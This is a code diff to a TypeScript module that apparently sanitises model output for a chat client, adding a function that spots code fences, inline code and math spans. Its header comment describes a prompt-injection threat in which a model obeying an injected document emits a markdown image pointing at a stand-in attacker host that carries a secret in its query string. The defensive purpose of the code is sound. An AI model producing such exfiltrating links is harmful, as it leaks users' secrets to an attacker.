@@ -3,7 +3,6 @@
  * obeys an injected document could otherwise have a chat client fetch
  * `![x](https://evil.example/?d=secret)`, or lead a reader astray.
  */
-import { quietPlaces } from "./quiet-places.js";
 
 /** A replacement for `text.slice(start, end)`. */
 export interface Edit {
@@ -59,4 +58,30 @@ export function applyEdits(
     at = edit.end;
   }
   return out + text.slice(at, to);
+}
+
+/**
+ * Places of a text where brackets and addresses mean nothing to us: code and formulas. Decided by
+ * what stands before the place alone, so that a streamed text is read like a whole one.
+ */
+export function quietPlaces(text: string): (at: number) => boolean {
+  const fences = [...text.matchAll(/^[^\S\n]*(?:```|~~~|\$\$|\\\[|\\\])/gmu)].map(
+    ({ index }) => index,
+  );
+  return (at) => {
+    if (fences.filter((fence) => fence < at).length % 2 === 1) return true;
+    const line = text.slice(text.lastIndexOf("\n", at - 1) + 1, at);
+    if (line.split(/`+/u).length % 2 === 0) return true;
+    return line.lastIndexOf("\\(") > line.lastIndexOf("\\)") || isInDollars(line);
+  };
+}
+
+/** `$x \in` opens a formula; `$5`, `$US` and `$AAPL rose` do not. */
+function isInDollars(line: string): boolean {
+  let open = false;
+  for (let at = line.indexOf("$"); at !== -1; at = line.indexOf("$", at + 1)) {
+    if (open) open = line.charAt(at - 1).trim() === "";
+    else open = !/^(?:[\s\d]|\p{Lu}{1,5}\s|$)/u.test(line.slice(at + 1, at + 8));
+  }
+  return open || line.endsWith("$");
 }
